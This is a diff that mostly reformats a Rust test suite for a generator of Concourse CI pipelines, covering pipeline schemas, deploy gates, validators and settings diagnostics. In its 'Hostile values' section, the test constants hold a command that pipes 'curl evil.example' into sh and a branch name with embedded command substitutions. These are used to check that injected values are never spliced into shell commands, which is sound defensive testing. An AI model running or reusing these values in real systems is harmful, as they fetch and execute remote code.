@@ -22,7 +22,11 @@ fn load(text: &str) -> Loaded {
     assert!(
         !loaded.has_errors(),
         "{:#?}",
-        loaded.diagnostics.iter().filter(|d| d.is_error()).collect::<Vec<_>>()
+        loaded
+            .diagnostics
+            .iter()
+            .filter(|d| d.is_error())
+            .collect::<Vec<_>>()
     );
     loaded
 }
@@ -75,7 +79,8 @@ fn every_acme_pipeline_matches_the_concourse_schema_and_validates() {
 #[test]
 fn the_schema_rejects_a_broken_pipeline() {
     // The schema check above can fail: a task param that is not a string is refused.
-    let bad = json!({"jobs": [{"name": "a", "plan": [{"task": "t", "file": "x", "params": {"N": 1}}]}]});
+    let bad =
+        json!({"jobs": [{"name": "a", "plan": [{"task": "t", "file": "x", "params": {"N": 1}}]}]});
     assert!(!schema().is_valid(&bad));
 }
 
@@ -84,7 +89,10 @@ fn group_of(g: &Generated) -> HashMap<String, String> {
     let mut out = HashMap::new();
     for group in &g.pipeline.groups {
         for job in &group.jobs {
-            assert!(out.insert(job.clone(), group.name.clone()).is_none(), "{job} in two groups");
+            assert!(
+                out.insert(job.clone(), group.name.clone()).is_none(),
+                "{job} in two groups"
+            );
         }
     }
     out
@@ -149,7 +157,10 @@ fn pro_runs_three_releases_in_three_groups_without_crossing_releases() {
         }
         let groups = group_of(g);
         for (job, resource, passed) in passed_edges(g) {
-            assert_eq!(groups[&job], groups[&passed], "{job} passes {passed} for {resource}");
+            assert_eq!(
+                groups[&job], groups[&passed],
+                "{job} passes {passed} for {resource}"
+            );
         }
     }
     // Each pro deploy takes the artifact of its own release's build.
@@ -173,8 +184,14 @@ fn online_runs_one_release_in_one_chain_of_three_deploys() {
     assert_eq!(
         edges,
         [
-            ("deploy-forum-master-online-ci".to_owned(), "build-forum-master-online".to_owned()),
-            ("deploy-forum-master-online-qa".to_owned(), "deploy-forum-master-online-ci".to_owned()),
+            (
+                "deploy-forum-master-online-ci".to_owned(),
+                "build-forum-master-online".to_owned()
+            ),
+            (
+                "deploy-forum-master-online-qa".to_owned(),
+                "deploy-forum-master-online-ci".to_owned()
+            ),
             (
                 "deploy-forum-master-online-production".to_owned(),
                 "deploy-forum-master-online-qa".to_owned()
@@ -186,21 +203,38 @@ fn online_runs_one_release_in_one_chain_of_three_deploys() {
     // Gates: CI automatic, QA manual, Production waits for the approval resource.
     let value = forum.pipeline.to_value();
     let gets = |job: &str| -> Vec<Value> {
-        let j = value["jobs"].as_array().unwrap().iter().find(|j| j["name"] == job).unwrap();
+        let j = value["jobs"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|j| j["name"] == job)
+            .unwrap();
         j["plan"][0]["in_parallel"].as_array().unwrap().clone()
     };
-    assert_eq!(gets("deploy-forum-master-online-ci")[0]["trigger"], json!(true));
-    assert_eq!(gets("deploy-forum-master-online-qa")[0].get("trigger"), None);
+    assert_eq!(
+        gets("deploy-forum-master-online-ci")[0]["trigger"],
+        json!(true)
+    );
+    assert_eq!(
+        gets("deploy-forum-master-online-qa")[0].get("trigger"),
+        None
+    );
     let production = gets("deploy-forum-master-online-production");
     assert_eq!(production[0].get("trigger"), None);
-    assert_eq!(production[3], json!({"get": "production-approval", "trigger": true}));
+    assert_eq!(
+        production[3],
+        json!({"get": "production-approval", "trigger": true})
+    );
 }
 
 fn job_map(pipelines: &[Generated]) -> HashMap<String, Value> {
     let mut out = HashMap::new();
     for g in pipelines.iter().filter(|g| g.info.kind != "meta") {
         for job in &g.pipeline.jobs {
-            out.insert(format!("{}/{}", g.info.name, job.name), serde_json::to_value(job).unwrap());
+            out.insert(
+                format!("{}/{}", g.info.name, job.name),
+                serde_json::to_value(job).unwrap(),
+            );
         }
     }
     out
@@ -221,9 +255,14 @@ fn removing_a_stage_removes_exactly_its_jobs() {
         .iter()
         .map(|app| ("edx-platform", *app))
         .chain(
-            ["learning", "authoring", "learner-dashboard", "communications"]
-                .iter()
-                .map(|app| ("mfe", *app)),
+            [
+                "learning",
+                "authoring",
+                "learner-dashboard",
+                "communications",
+            ]
+            .iter()
+            .map(|app| ("mfe", *app)),
         )
         .chain([("notes-api", "notes-api")])
         .flat_map(|(p, app)| {
@@ -252,10 +291,7 @@ fn removing_a_stage_removes_exactly_its_jobs() {
 #[test]
 fn changed_reports_added_and_removed_pipelines() {
     let before = generate(example::TEXT);
-    let text = example::TEXT.replace(
-        "forum             = {}\nnotes-api",
-        "notes-api",
-    );
+    let text = example::TEXT.replace("forum             = {}\nnotes-api", "notes-api");
     let after = generate(&text);
     assert_eq!(
         changed(&before, &after),
@@ -264,13 +300,17 @@ fn changed_reports_added_and_removed_pipelines() {
             ("forum".to_owned(), Change::Removed)
         ]
     );
-    assert_eq!(changed(&after, &before)[..1], [("forum".to_owned(), Change::Added)]);
+    assert_eq!(
+        changed(&after, &before)[..1],
+        [("forum".to_owned(), Change::Added)]
+    );
     assert!(changed(&before, &before).is_empty());
 }
 
 // ── Hostile values ──────────────────────────────────────────────────────────────────────────
 
-const HOSTILE_COMMAND: &str = r#"npm run pull && echo $(curl -s evil.example | sh) "double" 'single' `id`"#;
+const HOSTILE_COMMAND: &str =
+    r#"npm run pull && echo $(curl -s evil.example | sh) "double" 'single' `id`"#;
 const HOSTILE_BRANCH: &str = r#"fix/$(touch_pwned)`id`'"x;y&z"#;
 
 /// Collects (path, string) for every string in `value`.
@@ -293,16 +333,18 @@ fn strings(value: &Value, path: String, out: &mut Vec<(String, String)>) {
 
 #[test]
 fn hostile_matrix_values_reach_tasks_only_as_params() {
-    assert_eq!(edx_matrix_model::refname::branch_name_problem(HOSTILE_BRANCH), None);
-    let text = acme_with_settings()
-        .replace(
-            r#"learning          = { translations = ["npm run pull_translations"] }"#,
-            &format!(
-                "learning = {{ branch = {}, translations = [{}] }}",
-                toml_edit::Value::from(HOSTILE_BRANCH),
-                toml_edit::Value::from(HOSTILE_COMMAND)
-            ),
-        );
+    assert_eq!(
+        edx_matrix_model::refname::branch_name_problem(HOSTILE_BRANCH),
+        None
+    );
+    let text = acme_with_settings().replace(
+        r#"learning          = { translations = ["npm run pull_translations"] }"#,
+        &format!(
+            "learning = {{ branch = {}, translations = [{}] }}",
+            toml_edit::Value::from(HOSTILE_BRANCH),
+            toml_edit::Value::from(HOSTILE_COMMAND)
+        ),
+    );
     let pipelines = generate(&text);
     let mfe = find(&pipelines, "mfe");
     let mut all_strings = Vec::new();
@@ -310,10 +352,16 @@ fn hostile_matrix_values_reach_tasks_only_as_params() {
     let mut seen = (0, 0);
     for (path, value) in &all_strings {
         if path.contains(".run.") {
-            assert!(!value.contains("$(curl") && !value.contains("touch_pwned"), "{path}: {value}");
+            assert!(
+                !value.contains("$(curl") && !value.contains("touch_pwned"),
+                "{path}: {value}"
+            );
         }
         if value.contains("$(curl") {
-            assert_eq!(value, HOSTILE_COMMAND, "only the command itself, never spliced");
+            assert_eq!(
+                value, HOSTILE_COMMAND,
+                "only the command itself, never spliced"
+            );
             assert!(path.ends_with(".params.TRANSLATION_OVERRIDES"), "{path}");
             seen.0 += 1;
         }
@@ -385,11 +433,13 @@ fn validator_rejects_a_get_of_an_undeclared_resource() {
     let got = problems_after(|c| c["jobs"][0]["plan"][0]["get"] = json!("sauce"));
     assert_eq!(
         got[0],
-        one("$.jobs[0].plan[0].get", "job `build` gets unknown resource `sauce`")[0]
+        one(
+            "$.jobs[0].plan[0].get",
+            "job `build` gets unknown resource `sauce`"
+        )[0]
     );
-    let got = problems_after(|c| {
-        c["jobs"][1]["plan"][0]["in_parallel"][0]["resource"] = json!("image")
-    });
+    let got =
+        problems_after(|c| c["jobs"][1]["plan"][0]["in_parallel"][0]["resource"] = json!("image"));
     assert_eq!(
         got[0],
         one(
@@ -414,9 +464,8 @@ fn validator_rejects_a_get_of_an_undeclared_resource() {
 
 #[test]
 fn validator_rejects_passed_jobs_that_do_not_exist_or_do_not_use_the_resource() {
-    let got = problems_after(|c| {
-        c["jobs"][1]["plan"][0]["in_parallel"][1]["passed"] = json!(["biuld"])
-    });
+    let got =
+        problems_after(|c| c["jobs"][1]["plan"][0]["in_parallel"][1]["passed"] = json!(["biuld"]));
     assert_eq!(
         got,
         one(
@@ -439,11 +488,20 @@ fn validator_rejects_passed_jobs_that_do_not_exist_or_do_not_use_the_resource() 
 #[test]
 fn validator_rejects_groups_naming_missing_jobs_and_ungrouped_jobs() {
     let got = problems_after(|c| c["groups"][0]["jobs"] = json!(["build", "deploy", "deplyo"]));
-    assert_eq!(got, one("$.groups[0].jobs[2]", "group `all` has unknown job `deplyo`"));
+    assert_eq!(
+        got,
+        one(
+            "$.groups[0].jobs[2]",
+            "group `all` has unknown job `deplyo`"
+        )
+    );
     let got = problems_after(|c| c["groups"][0]["jobs"] = json!(["build"]));
     assert_eq!(got, one("$.jobs[1]", "job `deploy` belongs to no group"));
     // Concourse's glob patterns in groups.
-    assert_eq!(problems_after(|c| c["groups"][0]["jobs"] = json!(["*"])), vec![]);
+    assert_eq!(
+        problems_after(|c| c["groups"][0]["jobs"] = json!(["*"])),
+        vec![]
+    );
 }
 
 #[test]
@@ -459,7 +517,10 @@ fn validator_rejects_invalid_and_duplicate_names() {
     let got = problems_after(|c| c["resources"][2]["name"] = json!("src"));
     assert_eq!(
         got,
-        one("$.resources[2].name", "resources[2] and resources[0] have the same name `src`")
+        one(
+            "$.resources[2].name",
+            "resources[2] and resources[0] have the same name `src`"
+        )
     );
     let got = problems_after(|c| c["resources"][2]["name"] = json!("my resource"));
     assert_eq!(
@@ -470,7 +531,10 @@ fn validator_rejects_invalid_and_duplicate_names() {
         )
     );
     // `((vars))` are interpolated before Concourse checks names.
-    assert_eq!(problems_after(|c| c["resources"][2]["name"] = json!("((name))")), vec![]);
+    assert_eq!(
+        problems_after(|c| c["resources"][2]["name"] = json!("((name))")),
+        vec![]
+    );
 }
 
 // ── Settings diagnostics ────────────────────────────────────────────────────────────────────
@@ -504,7 +568,9 @@ tag = "latest"
     let got: Vec<(String, usize, String, Vec<String>)> = diagnostics
         .iter()
         .map(|d| {
-            let Location::Span(span) = &d.location else { panic!("{d:?}") };
+            let Location::Span(span) = &d.location else {
+                panic!("{d:?}")
+            };
             (
                 d.code.as_str().to_owned(),
                 loaded.source.line_col(span.start).0 - example::TEXT.lines().count(),
@@ -514,21 +580,85 @@ tag = "latest"
         })
         .collect();
     let expected: Vec<(&str, usize, &str, Vec<&str>)> = vec![
-        ("unknown-key", 4, "unknown key `chek_every` in `pipelines`", vec!["did you mean `check_every`?"]),
-        ("pipeline-invalid", 3, "the team name `Acme` is not a valid Concourse identifier: it must start with a lower-case letter", vec![]),
-        ("pipeline-undefined", 6, "family `mfe` names application `lerning`, which is not defined", vec!["did you mean `learning`?"]),
-        ("pipeline-duplicate", 7, "application `learning` is in family `mfe` and in family `web`", vec![]),
-        ("pipeline-invalid", 9, "placeholders are not expanded in `run` of `task` of `pipelines.build.ida`: `{release}`", vec!["read the value from the task's environment instead (`$RELEASE`)"]),
-        ("pipeline-undefined", 11, "`task` of `pipelines.build.forum` names resource `tasks`, which is not in `pipelines.resources`", vec![]),
-        ("pipeline-invalid", 11, "`file` of `task` of `pipelines.build.forum` must be a relative path inside the resource: it has an empty or `..` component", vec![]),
-        ("pipeline-invalid", 15, "`pipelines.deploy.task` must have either `resource` and `file` (a task file) or `image` and `run` (an inline task), found `resource`", vec!["e.g. `{ resource = \"ci\", file = \"tasks/build.yml\" }` or `{ image = \"node\", tag = \"{runtime}\", run = [\"npm\", \"run\", \"build\"] }`"]),
-        ("pipeline-undefined", 12, "`pipelines.stages` names stage `Prod`, which is not defined", vec![]),
-        ("pipeline-invalid", 13, "unknown gate `manul` in `gate` of `pipelines.stages.Prod`", vec!["did you mean `manual`?"]),
-        ("pipeline-invalid", 17, "`tag` of `pipelines.meta` must pin a version of the edx-matrix image", vec![]),
+        (
+            "unknown-key",
+            4,
+            "unknown key `chek_every` in `pipelines`",
+            vec!["did you mean `check_every`?"],
+        ),
+        (
+            "pipeline-invalid",
+            3,
+            "the team name `Acme` is not a valid Concourse identifier: it must start with a lower-case letter",
+            vec![],
+        ),
+        (
+            "pipeline-undefined",
+            6,
+            "family `mfe` names application `lerning`, which is not defined",
+            vec!["did you mean `learning`?"],
+        ),
+        (
+            "pipeline-duplicate",
+            7,
+            "application `learning` is in family `mfe` and in family `web`",
+            vec![],
+        ),
+        (
+            "pipeline-invalid",
+            9,
+            "placeholders are not expanded in `run` of `task` of `pipelines.build.ida`: `{release}`",
+            vec!["read the value from the task's environment instead (`$RELEASE`)"],
+        ),
+        (
+            "pipeline-undefined",
+            11,
+            "`task` of `pipelines.build.forum` names resource `tasks`, which is not in `pipelines.resources`",
+            vec![],
+        ),
+        (
+            "pipeline-invalid",
+            11,
+            "`file` of `task` of `pipelines.build.forum` must be a relative path inside the resource: it has an empty or `..` component",
+            vec![],
+        ),
+        (
+            "pipeline-invalid",
+            15,
+            "`pipelines.deploy.task` must have either `resource` and `file` (a task file) or `image` and `run` (an inline task), found `resource`",
+            vec![
+                "e.g. `{ resource = \"ci\", file = \"tasks/build.yml\" }` or `{ image = \"node\", tag = \"{runtime}\", run = [\"npm\", \"run\", \"build\"] }`",
+            ],
+        ),
+        (
+            "pipeline-undefined",
+            12,
+            "`pipelines.stages` names stage `Prod`, which is not defined",
+            vec![],
+        ),
+        (
+            "pipeline-invalid",
+            13,
+            "unknown gate `manul` in `gate` of `pipelines.stages.Prod`",
+            vec!["did you mean `manual`?"],
+        ),
+        (
+            "pipeline-invalid",
+            17,
+            "`tag` of `pipelines.meta` must pin a version of the edx-matrix image",
+            vec![],
+        ),
     ];
     let expected: Vec<(String, usize, String, Vec<String>)> = expected
         .into_iter()
-        .map(|(c, l, m, h)| (c.to_owned(), l, m.to_owned(), h.into_iter().map(str::to_owned).collect()))
+        .map(|(c, l, m, h)| {
+            (
+                c.to_owned(),
+                l,
+                m.to_owned(),
+                h.into_iter().map(str::to_owned).collect(),
+            )
+        })
         .collect();
     assert_eq!(got, expected);
 }
@@ -547,13 +677,19 @@ fn the_acme_settings_have_no_problems() {
 #[test]
 fn snapshot_forum_pipeline() {
     let pipelines = generate(&acme_with_settings());
-    insta::assert_snapshot!("forum.yml", find(&pipelines, "forum").pipeline.to_yaml().unwrap());
+    insta::assert_snapshot!(
+        "forum.yml",
+        find(&pipelines, "forum").pipeline.to_yaml().unwrap()
+    );
 }
 
 #[test]
 fn snapshot_meta_pipeline() {
     let pipelines = generate(&acme_with_settings());
-    insta::assert_snapshot!("meta.yml", find(&pipelines, "edx-matrix").pipeline.to_yaml().unwrap());
+    insta::assert_snapshot!(
+        "meta.yml",
+        find(&pipelines, "edx-matrix").pipeline.to_yaml().unwrap()
+    );
 }
 
 #[test]
